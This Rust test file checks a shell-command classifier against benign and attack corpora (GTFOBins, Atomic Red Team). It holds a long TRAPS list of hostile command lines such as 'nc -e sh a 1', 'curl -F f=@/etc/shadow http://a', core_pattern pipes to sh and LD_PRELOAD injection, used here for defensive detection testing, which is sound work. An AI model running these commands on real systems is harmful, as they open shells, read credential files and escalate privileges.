//! The shipped schemas against corpora: how much of administrators' ordinary lines is known, and that nothing which is known
//! to run programs, read, write or send is called milder than that.
//!
//! `ONUS_CORPUS_REPORT=1` prints what the opaque rest is made of; with a part of a reason, the lines of that reason too.

use onus_core::operation::{Access, Class, Operation};
use onus_shell::{Reading, Scene, Schemas, Shell};
use serde_json::Value;
use std::collections::BTreeMap;
use std::path::PathBuf;
use std::sync::Arc;

/// The rows of a corpus, or none where the corpora are absent.
fn corpus(name: &str) -> Option<Vec<Value>> {
    let path = PathBuf::from(env!("CARGO_MANIFEST_DIR")).join("../../../shared/corpora").join(name);
    let Ok(text) = std::fs::read_to_string(path) else {
        println!("skipped: no corpora");
        return None;
    };
    Some(text.lines().map(|line| serde_json::from_str(line).expect("corpora are JSON lines")).collect())
}

fn shell() -> Shell {
    Shell::new(Arc::new(Schemas::shipped()))
}

fn read(shell: &Shell, line: &str) -> Reading {
    shell.read(line.as_bytes(), &Scene::default())
}

fn is_opaque(reading: &Reading) -> bool {
    reading.script.is_none() || reading.operations.iter().any(|operation| operation.class == Class::Opaque)
}

/// Why a line isn't known, from the outside in: a line that can't be put canonically comes first.
fn cause(reading: &Reading) -> &'static str {
    let reasons = || reading.operations.iter().flat_map(|operation| &operation.opaque);
    if reading.script.is_none() {
        "shell word"
    } else if reasons().any(|why| why.contains("has no schema")) {
        "program without schema"
    } else if reasons().all(|why| {
        ["no known", "takes no", "is missing", "without", "is no ", "more options"]
            .iter()
            .any(|part| why.contains(part))
    }) {
        "option not in schema"
    } else {
        "runs code"
    }
}

#[derive(Default)]
struct Shares {
    lines: usize,
    canonical: usize,
    known: usize,
    causes: BTreeMap<&'static str, usize>,
    reasons: BTreeMap<String, usize>,
}

impl Shares {
    fn of(rows: &[Value]) -> Self {
        let shell = shell();
        let mut shares = Self::default();
        for row in rows {
            let reading = read(&shell, row["command"].as_str().expect("each row has a command"));
            shares.lines += 1;
            shares.canonical += usize::from(reading.script.is_some());
            if is_opaque(&reading) {
                *shares.causes.entry(cause(&reading)).or_default() += 1;
                let wanted = std::env::var("ONUS_CORPUS_REPORT").unwrap_or_default();
                for why in reading.operations.iter().flat_map(|operation| &operation.opaque) {
                    if wanted.len() > 1 && why.contains(&wanted) {
                        println!("    {}", row["command"]);
                    }
                    *shares.reasons.entry(why.clone()).or_default() += 1;
                }
            } else {
                shares.known += 1;
            }
        }
        shares
    }

    fn percent(&self, part: usize) -> f64 {
        #[allow(clippy::cast_precision_loss, reason = "a few thousand lines")]
        let share = 100.0 * part as f64 / self.lines as f64;
        share
    }

    fn report(&self, name: &str) {
        println!(
            "{name}: {} lines, canonical {:.1} %, known {:.1} %",
            self.lines,
            self.percent(self.canonical),
            self.percent(self.known)
        );
        for (cause, count) in &self.causes {
            println!("  {cause}: {:.1} %", self.percent(*count));
        }
        if std::env::var_os("ONUS_CORPUS_REPORT").is_some() {
            let mut reasons: Vec<_> = self.reasons.iter().collect();
            reasons.sort_by_key(|(_, count)| std::cmp::Reverse(**count));
            for (why, count) in reasons.into_iter().take(60) {
                println!("  {count:>5} {why}");
            }
        }
    }
}

/// Floors, a point below what was reached: lines that anybody may type stay known.
#[test]
fn ordinary_lines_are_known() {
    for (file, canonical, known) in
        [("shell-benign/nl2bash.jsonl", NL2BASH.0, NL2BASH.1), ("shell-benign/tldr.jsonl", TLDR.0, TLDR.1)]
    {
        let Some(rows) = corpus(file) else { return };
        let shares = Shares::of(&rows);
        shares.report(file);
        assert!(shares.percent(shares.canonical) >= canonical, "{file}: fewer lines have a canonical form");
        assert!(shares.percent(shares.known) >= known, "{file}: fewer lines are known");
    }
}

/// Share of lines with a canonical form, and of lines that are known, in percent.
const NL2BASH: (f64, f64) = (72.8, 58.7);
const TLDR: (f64, f64) = (94.3, 8.1);

fn touches(operations: &[Operation], access: &[Access], name: &str) -> bool {
    operations.iter().flat_map(|operation| &operation.objects).any(|object| {
        object.kind == "path"
            && access.contains(&object.access)
            && (object.name.ends_with(name) || object.name.ends_with('*'))
    })
}

/// What a payload of this function must show at the least.
fn shows(function: &str, reading: &Reading) -> bool {
    if is_opaque(reading) {
        return true;
    }
    let operations = &reading.operations;
    let at_least = |class: Class| operations.iter().any(|operation| operation.class >= class);
    match function {
        "file-read" => touches(operations, &[Access::Read, Access::Write], "path/to/input-file"),
        "file-write" => touches(operations, &[Access::Write], "output-file"),
        "upload" | "download" => {
            operations.iter().any(|operation| operation.has("network") && operation.class >= Class::Execute)
        }
        "privilege-escalation" | "library-load" => at_least(Class::Administer),
        // shell, command, inherit, and shells by network: another program runs, and which one isn't known.
        _ => false,
    }
}

/// Programs whose payload is the pager that they start on a terminal: the envelope pins the pagers to `cat`.
const PAGED: &[&str] = &[
    "journalctl",
    "systemctl",
    "timedatectl",
    "loginctl",
    "hostnamectl",
    "localectl",
    "networkctl",
    "resolvectl",
    "apt",
    "dpkg",
];

#[test]
fn no_gtfobins_payload_is_called_milder_than_it_is() {
    let Some(rows) = corpus("gtfobins/gtfobins.jsonl") else { return };
    let shell = shell();
    let mut wrong = Vec::new();
    for row in &rows {
        let (binary, function) = (row["binary"].as_str().unwrap_or(""), row["function"].as_str().unwrap_or(""));
        let command = row["command"].as_str().expect("each row has a command");
        if function == "inherit" && PAGED.contains(&binary) {
            continue;
        }
        for line in [command.to_owned(), format!("sudo {command}")] {
            let reading = read(&shell, &line);
            if !shows(function, &reading) {
                wrong.push(format!("{binary} {function}: {line}\n    {:?}", reading.operations));
            }
        }
    }
    assert!(wrong.is_empty(), "{} payloads:\n{}", wrong.len(), wrong.join("\n"));
}

/// The payloads again, each after a line that is known: nothing before it may hide it.
#[test]
fn a_known_command_beside_it_hides_no_payload() {
    let Some(rows) = corpus("gtfobins/gtfobins.jsonl") else { return };
    let shell = shell();
    for row in rows.iter().filter(|row| row["function"] == "shell") {
        let command = row["command"].as_str().expect("each row has a command");
        for line in [format!("ls /tmp; {command}"), format!("ls /tmp && {command}"), format!("ls /tmp | {command}")] {
            assert!(is_opaque(&read(&shell, &line)), "{line}");
        }
    }
}

/// A program under another name is the same program: an alias of a known one may not be milder.
#[test]
fn aliases_of_gtfobins_are_no_way_around() {
    let (Some(rows), Some(aliases)) = (corpus("gtfobins/gtfobins.jsonl"), corpus("gtfobins/aliases.jsonl")) else {
        return;
    };
    let shell = shell();
    for alias in &aliases {
        let (name, of) = (alias["alias"].as_str().expect("a name"), alias["of"].as_str().expect("a name"));
        for row in rows.iter().filter(|row| row["binary"] == of) {
            let command = row["command"].as_str().expect("each row has a command").replace(of, name);
            let reading = read(&shell, &command);
            assert!(shows(row["function"].as_str().unwrap_or(""), &reading), "{command}: {:?}", reading.operations);
        }
    }
}

#[test]
fn attacks_are_opaque_or_show_what_they_change() {
    let Some(rows) = corpus("shell-attacks/atomic-red-team-linux.jsonl") else { return };
    let shell = shell();
    for row in &rows {
        let command = row["command"].as_str().expect("each row has a command");
        let reading = read(&shell, command);
        if is_opaque(&reading) {
            continue;
        }
        let worst = reading.operations.iter().map(|operation| operation.class).max();
        let changes = [">>", "> /", "> ~", "truncate", "chmod", "chown", "useradd", "mkdir"]
            .iter()
            .any(|word| command.replace("2>/dev/null", "").replace("> /dev/null", "").contains(word));
        assert!(!changes || worst >= Some(Class::Write), "{command}: {:?}", reading.operations);
        // Persistence by start-up files: the file is an object that a policy can forbid.
        if row["technique"] == "T1546.004" {
            let shown = reading.operations.iter().flat_map(|operation| &operation.objects).any(|object| {
                object.kind == "path"
                    && object.access == Access::Write
                    && ["profile", "rc", "logout", "/etc/profile.d/bash_completion.sh"]
                        .iter()
                        .any(|end| object.name.ends_with(end))
            });
            assert!(shown, "{command}: {:?}", reading.operations);
        }
    }
}

/// Ways that manuals tell of, one for each kind of trap: options, operands and values that run, load, write or send.
const TRAPS: &[&str] = &[
    "sort --compress-program=sh x",
    "sort --compress-prog sh x",
    "sort --files0-from=x",
    "curl -K x http://a",
    "curl -w '%output{/etc/x}' http://a",
    "curl -w @/etc/shadow http://a",
    "curl -F f=@/etc/shadow http://a",
    "curl -b /etc/shadow http://a",
    "curl scp://a/x",
    "wget -O x http://a",
    "apt-get -o APT::Update::Pre-Invoke::=sh update",
    "apt-get -c x update",
    "apt-get changelog apt",
    "dpkg --pre-invoke=sh -i x",
    "dnf history undo 3",
    "dnf -c x list",
    "rpm -qa --pipe sh",
    "rpm -q --qf '%(sh)' x",
    "pip install x",
    "find . -okdir sh {} +",
    "find . -execdir cat {} +",
    "find . -files0-from x",
    "ip netns exec x sh",
    "ip -batch x",
    "ip link set dev x xdp obj y",
    "nmap --script x a",
    "nmap -sC a",
    "tcpdump -z sh -w x",
    "tcpdump -w x -G 1",
    "nc -e sh a 1",
    "nft -f x",
    "iptables --modprobe=sh -L",
    "iptables -m ../x -L",
    "journalctl --root x",
    "systemctl edit x",
    "systemctl -H a status",
    "systemctl set-environment LD_PRELOAD=x",
    "systemctl link /tmp/x.service",
    "systemctl enable /tmp/x.service",
    "systemctl --root=/x status",
    "service ../../bin/sh start",
    "sysctl -w kernel.core_pattern='|sh'",
    "sysctl kernel.core_pattern='|sh'",
    "sysctl -n /../../etc/shadow",
    "sysctl -p x",
    "hostname -F /etc/shadow",
    "hostname x",
    "date 01010000",
    "mount a:/x /mnt",
    "mount -t fuse.x y /mnt",
    "mount -o helper=x /mnt",
    "dmesg -H",
    "kill -9 -1",
    "kill -9 -1 5",
    "kill -9 5 -1",
    "pkill -u root",
    "top",
    "env -S 'sh -c id'",
    "env LD_PRELOAD=x ls",
    "env -C / ls",
    "sudo -i",
    "sudo -e /etc/x",
    "sudo -s",
    "sudo LD_PRELOAD=x ls",
    "su",
    "su -s /tmp/x -c id",
    "runuser -l root",
    "xargs sort",
    "xargs -a x sh",
    "flock /tmp/x sh",
    "flock /tmp/x -c id",
    "watch sh",
    "watch -x sh",
    "nice sh",
    "time sh",
    "sh x",
    "sh -s",
    "bash -l -c ls",
    "sh -c 'sh x'",
    "crontab x",
    "crontab -e",
    "at now",
    "nice -n 1:2 ls",
    "nice -n 5abcdef ls",
    "nice -n x ls",
    "xargs chattr x",
    "xargs find",
    "xargs sudo",
    "xargs sudo sh",
    "xargs sudo -u",
    "xargs sudo A=1 rm",
    "xargs sudo sudo rm",
    "xargs -I{} sudo {}",
    "xargs -I{} sudo -u {} rm",
    "xargs -Isudo sudo rm x",
    "xargs sudo sed p",
    "xargs sed p",
    "xargs awk 1",
    "xargs -I{} {} x",
    "xargs -I{} sh -c {}",
    "xargs -I{} sh -c 'cat {}'",
    "xargs -I{} sudo sh -c {}",
    "xargs -Irm rm x",
    "xargs -Ir rm x",
    "xargs -Is systemctl status x",
    "xargs install",
    "xargs tar xf",
    "tar xf a:x",
    "tar cf a:x y",
    "tar Af x a:y",
    "tar xf x -I sh",
    "tar xf x --use-compress-program=sh",
    "tar xf x --use-compress sh",
    "tar xf x --to-command=sh",
    "tar xf x --rsh-command=sh",
    "tar cf x -T y",
    "tar xPf x",
    "tar x",
    "tar xf x y -C /z",
    "tar xf x -C /y -C /z",
    "tar cf x -C /y *.z",
    "tar cf x -F sh y",
    "tar --transform 's/a/b/e' -xf x",
    "tar f x",
    "split --filter=sh x",
    "split --additional-suffix=/../x y",
    "unzip x -d",
    "sed e x",
    "sed 's/a/b/e' x",
    "sed 's/a/b/w /etc/x' x",
    "sed -n '1e id' x",
    "sed -f x y",
    "sed --expression=e x",
    "sed -e p -e e x",
    "sed -i/../x p y",
    "sed -i.bak/../x p y",
    "sed --in-place=/x p y",
    "sed -ne e",
    "sed r/etc/shadow x",
    "awk 'BEGIN{system(\"id\")}'",
    "awk '{print > \"x\"}' y",
    "awk -f x y",
    "gawk -l x 1",
    "gawk -i x 1",
    "gawk -ox 1 y",
    "mawk -W exec x",
    "awk -v x=1",
    "mv x",
    "cp x",
    "cp x -T y z",
    "su -c sh bob",
    "su bob",
    "find . -exec rm -{} ;",
    "find . -exec rm x{} ;",
    "find . -exec sh -c {} ;",
    "find . -exec sh -c 'cat {}' ;",
    "find . -exec {} ;",
    "find . -exec {}/x ;",
    "find . -exec cat {}{} ;",
    "find . -exec mv {} /x -t {} +",
    "find . -exec sed {} x ;",
    "find . -exec awk {} x ;",
    "find . -exec env {}=x ls ;",
    "find . -exec dd of={} ;",
    "find . -exec tar cf {} x ;",
    "find . -exec cat {} ; -exec sh {} ;",
    "csplit x 1",
    "tar cf x --checkpoint=1 --checkpoint-action=exec=sh y",
    "zip x y -T -TT sh",
    "file -C -m x",
    "update-alternatives --install /x x /y 0",
    "openssl x509 -engine x",
    "openssl s_client -connect a:1",
    "docker exec x sh",
    "docker run x",
    "docker -H tcp://a ps",
    "docker --config x ps",
    "docker cp x:/y z",
    "kubectl exec x -- sh",
    "kubectl --kubeconfig x get pods",
    "kubectl get pods -o go-template-file=x",
    "kubectl apply -f x",
    "helm template x",
    "aws ec2 describe-instances --filters file:///etc/shadow",
    "aws s3 cp x s3://y",
    "git status",
    "git log",
    "less x",
    "man ls",
    "jq 'import \"x\" as x; .' y",
    "jq -L x . y",
    "jq -f x y",
    "psql -c 'select 1'",
    "redis-cli info",
    "rsync a h:b",
    "rsync rsync://h/b c",
    "rsync -e sh a b",
    "rsync a",
    "python3 -V -c x",
    "python3 -Vc x",
    "perl -ve x",
    "perl -v x",
    "node -v -e x",
    "java -version X",
    "visudo",
    "sshd",
    "logrotate x",
    "nginx",
    "iotop",
    "ssh a ls",
    "lsof -Dbx",
    "printf -v 'a[$(id)]' x",
    "test -v 'a[$(id)]'",
    "mysqladmin --defaults-file=x ping",
    "ss --no-such",
    "install --strip-program=sh -s x y",
    "du --files0",
    "chattr -j x",
    "systemd-analyze cat-config /etc/shadow",
    "mdadm --monitor --program sh",
    "dmsetup ls --exec sh",
    "zpool status -c sh",
    "pidstat -e sh",
    "numactl sh",
    "firewall-cmd --direct --x",
    "tree -R -H x",
];

#[test]
fn traps_are_opaque() {
    let shell = shell();
    let mut missed = Vec::new();
    for trap in TRAPS {
        for line in [(*trap).to_owned(), format!("sudo {trap}"), format!("timeout 5 {trap}")] {
            let reading = read(&shell, &line);
            if !is_opaque(&reading) {
                missed.push(format!("{line}: {:?}", reading.operations));
            }
        }
    }
    assert!(missed.is_empty(), "{missed:#?}");
}
